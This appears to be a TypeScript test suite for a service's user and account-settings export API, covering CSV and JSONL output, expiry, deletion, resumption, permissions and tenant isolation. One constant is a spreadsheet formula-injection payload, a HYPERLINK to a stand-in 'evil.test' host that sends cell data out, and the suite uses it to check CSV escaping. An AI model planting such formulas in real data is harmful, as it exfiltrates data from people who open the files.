// Exports through the API with an in-process worker: users (CSV and JSONL) and account settings, formula
// escaping, the account filter and re-importing an export, expiry (410) and the sweep, delete, resuming
// after a yield, idempotency, permissions by kind and tenancy.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { processExport, sweepExpiredExports } from '../src/core/exports/service.ts';
import { newId } from '../src/core/ids.ts';
import { systemPrincipal } from '../src/core/principal.ts';
import { as, buildApp, type Caller, createTenant, testDb } from './helper.ts';
import { importCsv, runWorker } from './imports-helper.ts';

const FORMULA = '=HYPERLINK("http://evil.test/?x="&A1,"Click")';

async function setup(t: any) {
  const built = await buildApp(t);
  await runWorker(t, built.config);
  const tenant = await createTenant(built.services, built.config);
  const api = as(built.app, tenant.key);
  const ok = async (method: any, url: string, body?: unknown, status = 201) => {
    const res = await api(method, url, body);
    assert.equal(res.statusCode, status, `${method} ${url}: ${res.body}`);
    return res.json();
  };
  const profiles = (await ok('GET', `/api/accounts/${tenant.accountId}/permission_profiles`, undefined, 200))
    .data as { id: number; name: string }[];
  const sales = await ok('POST', `/api/accounts/${tenant.accountId}/groups`, { name: 'Sales' });
  const finance = await ok('POST', `/api/accounts/${tenant.accountId}/groups`, { name: 'Finance' });
  const ada = await ok('POST', '/api/users', {
    email: 'ada@example.test',
    first_name: 'Ada',
    last_name: 'Lovelace',
    job_title: FORMULA,
    company: 'Engines, Ltd',
    language: 'fr',
    permission_profile_id: profiles.find((p) => p.name === 'DS Sender')!.id,
    group_ids: [sales.id, finance.id],
  });
  const second = await ok('POST', '/api/accounts', { name: 'Second' });
  const secondProfiles = (await ok('GET', `/api/accounts/${second.id}/permission_profiles`, undefined, 200))
    .data as { id: number; name: string }[];
  const ops = await ok('POST', `/api/accounts/${second.id}/groups`, { name: 'Ops' });
  const bob = await ok('POST', '/api/users', {
    email: 'bob@example.test',
    first_name: 'Bob',
    last_name: 'Builder',
    account_id: second.id,
    permission_profile_id: secondProfiles.find((p) => p.name === 'DS Viewer')!.id,
    group_ids: [ops.id],
  });
  return { ...built, tenant, api, ok, ada, bob, secondId: second.id as string };
}

const TERMINAL = new Set(['completed', 'failed']);

async function waitExport(api: Caller, id: string): Promise<any> {
  const deadline = Date.now() + 30_000;
  for (;;) {
    const res = await api('GET', `/api/exports/${id}`);
    assert.equal(res.statusCode, 200, res.body);
    if (TERMINAL.has(res.json().status)) return res.json();
    if (Date.now() > deadline) throw new Error(`export ${id} still ${res.json().status}`);
    await new Promise((r) => setTimeout(r, 100));
  }
}

async function exportOf(api: Caller, body: Record<string, unknown>) {
  const res = await api('POST', '/api/exports', body);
  assert.equal(res.statusCode, 202, res.body);
  assert.equal(res.json().status, 'queued');
  const done = await waitExport(api, res.json().id);
  assert.equal(done.status, 'completed', JSON.stringify(done));
  const file = await api('GET', `/api/exports/${done.id}/download`);
  assert.equal(file.statusCode, 200, file.body);
  return { done, file };
}

/** A queued export written directly (no job, so no worker picks it up); returns its id. */
async function queuedExport(
  organizationId: string,
  fields: { kind?: 'users' | 'account_settings'; format?: 'csv' | 'jsonl'; expiresAt?: Date } = {},
): Promise<string> {
  const id = newId();
  await testDb()
    .db.insertInto('exports')
    .values({
      id,
      organization_id: organizationId,
      kind: fields.kind ?? 'users',
      format: fields.format ?? 'csv',
      account_ids: null,
      status: 'queued',
      requestor: { kind: 'api_key', id: 'k', label: 'k' },
      expires_at: fields.expiresAt ?? new Date(Date.now() + 3600_000),
    })
    .execute();
  return id;
}

/** The content chunks an export has stored, in order. */
async function chunksOf(exportId: string) {
  return testDb()
    .db.selectFrom('export_chunks')
    .select(['seq', 'data'])
    .where('export_id', '=', exportId)
    .orderBy('seq')
    .execute();
}

test('users CSV: import header names, a row per membership, formulas escaped, sizes exact, audited', async (t) => {
  const { api, tenant, ada, bob, secondId } = await setup(t);
  const { done, file } = await exportOf(api, { kind: 'users' });
  assert.equal(file.headers['content-type'], 'text/csv; charset=utf-8');
  assert.equal(file.headers['content-disposition'], `attachment; filename="users-${done.id}.csv"`);
  assert.equal(file.rawPayload.length, done.size_bytes);
  assert.equal(done.percent_completed, 100);
  assert.equal(done.kind, 'users');
  assert.equal(done.format, 'csv');
  assert.equal(done.account_ids, null);
  assert.equal(done.expired, false);
  assert.ok(new Date(done.expires_at).getTime() > Date.now() + 6 * 24 * 3600_000, 'kept about 7 days');

  assert.ok(file.body.startsWith('\ufeff'), 'a BOM, as results.csv');
  const rows: string[][] = parse(file.rawPayload, { bom: true });
  assert.deepEqual(rows[0], [
    'AccountID',
    'AccountName',
    'APIUserName',
    'FirstName',
    'LastName',
    'UserEmail',
    'PermissionSet',
    'Group',
    'Group',
    'UserTitle',
    'CompanyName',
    'Department',
    'Language',
    'MembershipStatus',
    'UserStatus',
  ]);
  const data = rows.slice(1);
  assert.equal(data.length, 3, 'owner, Ada and Bob: one membership each');
  assert.equal(done.row_count, 3);
  const byEmail = new Map(data.map((r) => [r[5], r]));
  assert.deepEqual(byEmail.get('ada@example.test'), [
    tenant.accountId,
    'Main',
    ada.id,
    'Ada',
    'Lovelace',
    'ada@example.test',
    'DS Sender',
    'Finance',
    'Sales',
    `'${FORMULA}`,
    'Engines, Ltd',
    '',
    'fr',
    'active',
    'active',
  ]);
  const bobRow = byEmail.get('bob@example.test')!;
  assert.deepEqual(
    [bobRow[0], bobRow[1], bobRow[2], bobRow[6], bobRow[7], bobRow[8]],
    [secondId, 'Second', bob.id, 'DS Viewer', 'Ops', ''],
  );
  assert.equal(byEmail.get(tenant.email)![6], 'DS Admin');

  const events = await testDb()
    .db.selectFrom('audit_events')
    .select(['action', 'target_id'])
    .where('organization_id', '=', tenant.organizationId)
    .where('action', '=', 'export.created')
    .execute();
  assert.deepEqual(events, [{ action: 'export.created', target_id: done.id }]);

  const list = await api('GET', '/api/exports?limit=1');
  assert.equal(list.json().data[0].id, done.id);
});

test('users JSONL: one object per user with memberships and group names, values verbatim', async (t) => {
  const { api, ada, secondId } = await setup(t);
  const { done, file } = await exportOf(api, { kind: 'users', format: 'jsonl' });
  assert.equal(file.headers['content-type'], 'application/x-ndjson');
  assert.match(String(file.headers['content-disposition']), /filename="users-.+\.jsonl"/);
  const lines = file.body
    .trimEnd()
    .split('\n')
    .map((l) => JSON.parse(l));
  assert.equal(lines.length, 3);
  assert.equal(done.row_count, 3);
  const a = lines.find((l) => l.id === ada.id);
  assert.equal(a.job_title, FORMULA, 'JSONL is for programs: no spreadsheet escaping');
  assert.equal(a.company, 'Engines, Ltd');
  assert.equal(a.memberships.length, 1);
  assert.equal(a.memberships[0].permission_profile_name, 'DS Sender');
  assert.deepEqual(
    a.memberships[0].groups.map((g: any) => g.name),
    ['Finance', 'Sales'],
  );
  assert.equal(typeof a.memberships[0].groups[0].id, 'number');
  const b = lines.find((l) => l.email === 'bob@example.test');
  assert.equal(b.memberships[0].account_id, secondId);
  assert.equal(b.memberships[0].account_name, 'Second');
});

test('account filter: only those memberships; the CSV imports back as an update with nothing to change', async (t) => {
  const { api, bob, secondId } = await setup(t);
  const { done, file } = await exportOf(api, { kind: 'users', account_ids: [secondId] });
  assert.deepEqual(done.account_ids, [secondId]);
  const rows: string[][] = parse(file.rawPayload, { bom: true });
  assert.equal(rows.length, 2, 'header and Bob only');
  assert.equal(rows[1]![2], bob.id);

  const dry = await importCsv(api, `operation=update&account_id=${secondId}&dry_run=true`, file.rawPayload);
  assert.equal(dry.status, 'completed', JSON.stringify(dry));
  assert.equal(dry.user_count, 1);
  assert.equal(dry.error_count, 0, JSON.stringify(dry.error_rollups));
  assert.equal(dry.no_action_required_user_count, 1);
  assert.deepEqual(dry.invalid_column_headers, ['MembershipStatus', 'UserStatus']);

  // The same file as an add, with the account taken from the AccountID column: Bob exists already.
  const add = await importCsv(api, 'operation=add&dry_run=true', file.rawPayload);
  assert.equal(add.error_count, 0, JSON.stringify(add.error_rollups));
  assert.equal(add.no_action_required_user_count, 1);

  const bad = await api('POST', '/api/exports', { kind: 'users', account_ids: [newId()] });
  assert.equal(bad.statusCode, 422, bad.body);
  assert.equal(bad.json().error.code, 'invalid_reference');
  const empty = await api('POST', '/api/exports', { kind: 'users', account_ids: [] });
  assert.equal(empty.statusCode, 400, empty.body);
  assert.equal(empty.json().error.code, 'validation_failed');
  const kind = await api('POST', '/api/exports', { kind: 'groups' });
  assert.equal(kind.statusCode, 400, kind.body);
});

test('account settings: CSV with a column per setting (object settings by property) and JSONL', async (t) => {
  const { api, tenant, secondId } = await setup(t);
  const patch = await api('PATCH', `/api/accounts/${tenant.accountId}/settings`, {
    mfa_required: true,
    password_policy: { min_length: 16 },
  });
  assert.equal(patch.statusCode, 200, patch.body);
  const { done, file } = await exportOf(api, { kind: 'account_settings' });
  assert.match(String(file.headers['content-disposition']), /filename="account-settings-.+\.csv"/);
  const rows: Record<string, string>[] = parse(file.rawPayload, { bom: true, columns: true });
  assert.equal(rows.length, 2);
  assert.equal(done.row_count, 2);
  const main = rows.find((r) => r.AccountID === tenant.accountId)!;
  const second = rows.find((r) => r.AccountID === secondId)!;
  assert.equal(main.AccountName, 'Main');
  assert.equal(main.mfa_required, 'true');
  assert.equal(main['password_policy.min_length'], '16');
  assert.equal(second.mfa_required, 'false');
  assert.equal(second['password_policy.min_length'], '12');
  // The settings text form the eSignature face shows too (core/settings/text.ts).
  assert.equal(main.allowed_signature_types, 'drawn,typed,uploaded');

  const jsonl = await exportOf(api, {
    kind: 'account_settings',
    format: 'jsonl',
    account_ids: [tenant.accountId],
  });
  const lines = jsonl.file.body
    .trimEnd()
    .split('\n')
    .map((l) => JSON.parse(l));
  assert.equal(lines.length, 1);
  assert.equal(lines[0].account_id, tenant.accountId);
  assert.equal(lines[0].settings.mfa_required, true);
  assert.equal(lines[0].settings.password_policy.min_length, 16);
  assert.equal(lines[0].settings.password_policy.require_digit, true, 'defaults filled in');
});

test('expiry: a download past expires_at answers 410; the sweep deletes the content and keeps the answer', async (t) => {
  const { api } = await setup(t);
  const { done } = await exportOf(api, { kind: 'users' });
  const db = testDb().db;
  await db
    .updateTable('exports')
    .set({ expires_at: new Date(Date.now() - 1000) })
    .where('id', '=', done.id)
    .execute();
  const gone = await api('GET', `/api/exports/${done.id}/download`);
  assert.equal(gone.statusCode, 410, gone.body);
  assert.equal(gone.json().error.code, 'export_expired');
  assert.equal((await api('GET', `/api/exports/${done.id}`)).json().expired, true);

  assert.ok((await sweepExpiredExports(db)) >= 1);
  assert.deepEqual(await chunksOf(done.id), []);
  const row = await db
    .selectFrom('exports')
    .select('purged_at')
    .where('id', '=', done.id)
    .executeTakeFirstOrThrow();
  assert.ok(row.purged_at instanceof Date);
  const still = await api('GET', `/api/exports/${done.id}/download`);
  assert.equal(still.statusCode, 410);
  assert.equal(still.json().error.code, 'export_expired');
});

test('not ready: 409 export_not_ready; delete: 204, then 404, content gone, audited', async (t) => {
  const { api, tenant } = await setup(t);
  const db = testDb().db;
  const queued = await queuedExport(tenant.organizationId);
  const early = await api('GET', `/api/exports/${queued}/download`);
  assert.equal(early.statusCode, 409, early.body);
  assert.equal(early.json().error.code, 'export_not_ready');

  const { done } = await exportOf(api, { kind: 'users', format: 'jsonl' });
  const del = await api('DELETE', `/api/exports/${done.id}`);
  assert.equal(del.statusCode, 204, del.body);
  assert.equal((await api('GET', `/api/exports/${done.id}`)).statusCode, 404);
  assert.equal((await api('GET', `/api/exports/${done.id}/download`)).statusCode, 404);
  assert.equal((await api('DELETE', `/api/exports/${done.id}`)).statusCode, 404);
  assert.deepEqual(await chunksOf(done.id), []);
  const events = await db
    .selectFrom('audit_events')
    .select('action')
    .where('target_id', '=', done.id)
    .orderBy('seq')
    .execute();
  assert.deepEqual(
    events.map((e) => e.action),
    ['export.created', 'export.deleted'],
  );
});

test('resume: an export that yields after its first chunk continues from its checkpoint, byte for byte', async (t) => {
  const { tenant } = await setup(t);
  const db = testDb().db;
  // Enough users for several small chunks, written directly.
  await db
    .insertInto('users')
    .values(
      Array.from({ length: 40 }, (_, i) => ({
        id: newId(),
        organization_id: tenant.organizationId,
        email: `bulk${i}@example.test`,
        first_name: `Bulk${i}`,
        last_name: 'User',
      })),
    )
    .execute();
  const insert = () => queuedExport(tenant.organizationId);
  const opts = (workerId: string, shouldYield: () => boolean) => ({
    workerId,
    leaseSeconds: 60,
    retentionHours: 1,
    chunkBytes: 500,
    publicUrl: 'http://localhost:8080',
    shouldYield,
  });
  const content = async (id: string) => {
    const chunks = await chunksOf(id);
    return { seqs: chunks.map((c) => c.seq), bytes: Buffer.concat(chunks.map((c) => c.data)) };
  };

  const whole = await insert();
  assert.equal(
    await processExport(
      db,
      whole,
      opts('w1', () => false),
    ),
    'done',
  );

  const sliced = await insert();
  assert.equal(
    await processExport(
      db,
      sliced,
      opts('w1', () => true),
    ),
    'yielded',
  );
  const mid = await db.selectFrom('exports').selectAll().where('id', '=', sliced).executeTakeFirstOrThrow();
  assert.equal(mid.status, 'in_process');
  assert.equal(mid.next_seq, 1);
  assert.ok(mid.row_count > 0 && mid.row_count < 43, `${mid.row_count} rows after one chunk`);
  // Another worker takes it over (the first released its lease) and finishes it.
  assert.equal(
    await processExport(
      db,
      sliced,
      opts('w2', () => false),
    ),
    'done',
  );

  const a = await content(whole);
  const b = await content(sliced);
  assert.ok(a.seqs.length > 3, `several chunks (${a.seqs.length})`);
  assert.deepEqual(b.seqs, a.seqs);
  assert.ok(a.bytes.equals(b.bytes), 'the resumed export has every row once, in order');
  const rows: string[][] = parse(b.bytes, { bom: true });
  assert.equal(rows.length, 1 + 43, 'header, 40 bulk users without membership, owner, Ada and Bob');
  const fin = await db.selectFrom('exports').selectAll().where('id', '=', sliced).executeTakeFirstOrThrow();
  assert.equal(fin.status, 'completed');
  assert.equal(fin.row_count, 43);
  assert.equal(Number(fin.size_bytes), b.bytes.length);
});

test('Idempotency-Key: a retried creation returns the same export and queues one', async (t) => {
  const { api, tenant } = await setup(t);
  const headers = { 'idempotency-key': `exp-${newId()}` };
  const one = await api('POST', '/api/exports', { kind: 'users', format: 'jsonl' }, headers);
  const two = await api('POST', '/api/exports', { kind: 'users', format: 'jsonl' }, headers);
  assert.equal(one.statusCode, 202, one.body);
  assert.equal(two.statusCode, 202, two.body);
  assert.equal(two.json().id, one.json().id);
  assert.equal(two.headers['idempotent-replayed'], 'true');
  const rows = await testDb()
    .db.selectFrom('exports')
    .select('id')
    .where('organization_id', '=', tenant.organizationId)
    .execute();
  assert.equal(rows.length, 1);
});

test('permissions by kind: a key without users:read cannot export or see users exports', async (t) => {
  const { api, app } = await setup(t);
  const { done: usersExport } = await exportOf(api, { kind: 'users' });
  const settingsKey = await api('POST', '/api/api_keys', { name: 'settings only', scopes: ['account:read'] });
  assert.equal(settingsKey.statusCode, 201, settingsKey.body);
  const settingsApi = as(app, settingsKey.json().key);

  const denied = await settingsApi('POST', '/api/exports', { kind: 'users' });
  assert.equal(denied.statusCode, 403, denied.body);
  assert.equal(denied.json().error.code, 'permission_denied');
  assert.match(denied.json().error.message, /users:read/);
  for (const url of [`/api/exports/${usersExport.id}`, `/api/exports/${usersExport.id}/download`]) {
    const res = await settingsApi('GET', url);
    assert.equal(res.statusCode, 403, `${url}: ${res.body}`);
  }
  assert.equal((await settingsApi('DELETE', `/api/exports/${usersExport.id}`)).statusCode, 403);

  const allowed = await settingsApi('POST', '/api/exports', { kind: 'account_settings' });
  assert.equal(allowed.statusCode, 202, allowed.body);
  const list = (await settingsApi('GET', '/api/exports')).json();
  assert.deepEqual(
    list.data.map((e: any) => e.id),
    [allowed.json().id],
    'only the kinds the key may read',
  );

  const auditKey = await api('POST', '/api/api_keys', { name: 'audit only', scopes: ['audit:read'] });
  const auditApi = as(app, auditKey.json().key);
  const none = await auditApi('GET', '/api/exports');
  assert.equal(none.statusCode, 403, none.body);
  assert.match(none.json().error.message, /users:read.*settings:read/);
});

test('tenancy: another organization cannot see, download, delete or scope an export', async (t) => {
  const { api, app, services, config, tenant } = await setup(t);
  const { done } = await exportOf(api, { kind: 'users' });
  const other = await createTenant(services, config);
  const otherApi = as(app, other.key);
  for (const [method, url] of [
    ['GET', `/api/exports/${done.id}`],
    ['GET', `/api/exports/${done.id}/download`],
    ['DELETE', `/api/exports/${done.id}`],
  ] as const) {
    const res = await otherApi(method, url);
    assert.equal(res.statusCode, 404, `${method} ${url}: ${res.body}`);
    assert.equal(res.json().error.code, 'not_found');
  }
  assert.deepEqual((await otherApi('GET', '/api/exports')).json().data, []);
  const scoped = await otherApi('POST', '/api/exports', { kind: 'users', account_ids: [tenant.accountId] });
  assert.equal(scoped.statusCode, 422, scoped.body);
  assert.equal(scoped.json().error.code, 'invalid_reference');
  assert.equal((await api('GET', `/api/exports/${done.id}`)).statusCode, 200, 'still there for its owner');
});

test('a member key exports its own account only, and sees only its own account’s exports', async (t) => {
  const { api, services, tenant, secondId, app } = await setup(t);
  const { done: orgWide } = await exportOf(api, { kind: 'users' });
  const member = await api('POST', '/api/users', { email: 'member@example.test', role: 'member' });
  assert.equal(member.statusCode, 201, member.body);
  const key = await services.apiKeys.create(
    { principal: systemPrincipal(tenant.organizationId, 'test'), meta: {} },
    { name: 'member', account_id: tenant.accountId, created_by: member.json().id, role: 'member' },
  );
  const memberApi = as(app, key.key);

  const { done, file } = await exportOf(memberApi, { kind: 'users' });
  assert.deepEqual(done.account_ids, [tenant.accountId], 'scoped to its account');
  const rows: Record<string, string>[] = parse(file.rawPayload, { bom: true, columns: true });
  assert.ok(rows.length >= 3);
  assert.ok(rows.every((r) => r.AccountID === tenant.accountId));
  assert.ok(!rows.some((r) => r.UserEmail === 'bob@example.test'), 'nobody of the other account');

  const other = await memberApi('POST', '/api/exports', { kind: 'users', account_ids: [secondId] });
  assert.equal(other.statusCode, 403, other.body);
  assert.equal(other.json().error.code, 'permission_denied');
  assert.equal((await memberApi('GET', `/api/exports/${orgWide.id}`)).statusCode, 404);
  const list = (await memberApi('GET', '/api/exports')).json();
  assert.deepEqual(
    list.data.map((e: any) => e.id),
    [done.id],
  );
});

test('the sweep fails an export that never completed before its expiry', async (t) => {
  const { tenant } = await setup(t);
  const db = testDb().db;
  const id = await queuedExport(tenant.organizationId, {
    kind: 'account_settings',
    format: 'jsonl',
    expiresAt: new Date(Date.now() - 1000),
  });
  await sweepExpiredExports(db);
  const row = await db.selectFrom('exports').selectAll().where('id', '=', id).executeTakeFirstOrThrow();
  assert.equal(row.status, 'failed');
  assert.equal(row.error?.code, 'export_expired');
  assert.ok(row.purged_at instanceof Date);
  const opts = {
    workerId: 'w',
    leaseSeconds: 60,
    retentionHours: 1,
    publicUrl: 'http://localhost:8080',
    shouldYield: () => false,
  };
  assert.equal(await processExport(db, id, opts), 'done', 'a late job finds nothing to do');
  const after = await db
    .selectFrom('exports')
    .select('status')
    .where('id', '=', id)
    .executeTakeFirstOrThrow();
  assert.equal(after.status, 'failed');
});
